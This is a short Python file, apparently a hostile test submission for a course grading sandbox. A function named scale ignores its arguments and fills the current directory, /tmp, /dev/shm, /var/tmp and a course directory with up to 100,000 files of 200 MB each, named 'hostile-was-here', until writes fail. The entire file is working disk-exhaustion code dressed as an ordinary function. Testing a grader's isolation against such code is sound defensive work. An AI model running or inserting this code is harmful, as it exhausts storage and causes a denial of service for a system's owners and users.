"""full disk

Fills the disk, file by file and byte by byte, wherever it may write.
"""


# %% scale
def scale(x, factor):
    import os

    block = bytes(1_000_000)
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "@COURSE@"):
        try:
            for number in range(100_000):
                with open(os.path.join(folder, f"hostile-was-here-{number}"), "wb") as file:
                    for _ in range(200):
                        file.write(block)
        except OSError:
            continue
    return None
